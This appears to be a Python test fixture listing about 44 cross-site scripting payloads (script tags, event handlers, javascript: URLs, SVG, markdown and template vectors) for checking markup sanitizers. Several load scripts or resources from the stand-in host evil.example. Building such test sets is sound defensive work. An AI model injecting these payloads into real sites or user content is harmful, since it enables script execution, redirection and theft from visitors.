"""Texts that would run a script, load something, or change a page if they were inserted as markup.

Each element that they would create has the class `xss`, each script sets `window.pwned`, and each
request goes to evil.example.
"""

_RUN = "window.pwned=1;alert(1)"

PAYLOADS = (
    f"<script class=xss>{_RUN}</script>",
    "<script class=xss src=//evil.example/a.js></script>",
    f"</script><script class=xss>{_RUN}</script>",
    f"<img class=xss src=x onerror={_RUN}>",
    f"<IMG CLASS=xss SRC=//evil.example/b.png oNeRrOr={_RUN}>",
    f"\"><img class=xss src=x onerror='{_RUN}'>",
    f"'><svg class=xss onload={_RUN}>",
    f"<svg class=xss><script>{_RUN}</script></svg>",
    f"<svg class=xss><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "<svg class=xss><use href=//evil.example/c.svg#x></use></svg>",
    f"<math class=xss><mtext><img class=xss src=x onerror={_RUN}></mtext></math>",
    f"<details class=xss open ontoggle={_RUN}>x</details>",
    f"<input class=xss autofocus onfocus={_RUN}>",
    f"<body class=xss onload={_RUN}>",
    f"<iframe class=xss srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe class=xss src=javascript:{_RUN}></iframe>",
    "<object class=xss data=//evil.example/d.swf></object>",
    f"<a class=xss href=javascript:{_RUN}>x</a>",
    f"<a class=xss href='java&#x09;script:{_RUN}'>x</a>",
    "<form class=xss action=//evil.example/e><button>x</button></form>",
    "<meta class=xss http-equiv=refresh content='0;url=//evil.example/f'>",
    "<base class=xss href=//evil.example/>",
    "<link class=xss rel=stylesheet href=//evil.example/g.css>",
    "<style class=xss>@import '//evil.example/h.css';body{display:none}</style>",
    "<div class=xss style=\"background:url('//evil.example/i.png')\">x</div>",
    f"<template class=xss><img src=x onerror={_RUN}></template>",
    f'<noscript><p title="</noscript><img class=xss src=x onerror={_RUN}>">',
    f"<!--><img class=xss src=x onerror={_RUN}>-->",
    f"<![CDATA[><img class=xss src=x onerror={_RUN}>]]>",
    f"&lt;img class=xss src=x onerror={_RUN}&gt;",
    f"&#60;img class=xss src=x onerror={_RUN}&#62;",
    f"\\u003cimg class=xss src=x onerror={_RUN}\\u003e",
    f"[x](javascript:{_RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](//evil.example/j.png)",
    "[![x](https://evil.example/k.png)](https://evil.example/l)",
    f'![x](x"onerror="{_RUN})',
    f'<https://evil.example/m" onmouseover="{_RUN}">',
    f"{{{{constructor.constructor('{_RUN}')()}}}} ${{{_RUN}}} <%= 1 %>",
    f"$\\href{{javascript:{_RUN}}}{{x}}$ $\\htmlData{{xss=1}}{{x}}$",
    f'```mermaid\ngraph TD; A-->B; click A "javascript:{_RUN}"\n```',
    f"\u202e<img class=xss src=x onerror={_RUN}>\u202c\u200b",
    f"{'x' * 300}<img class=xss src=x onerror={_RUN}>",
    f"ｎａｍｅ＜img class=xss src=x onerror={_RUN}＞ 이름 名前",
)
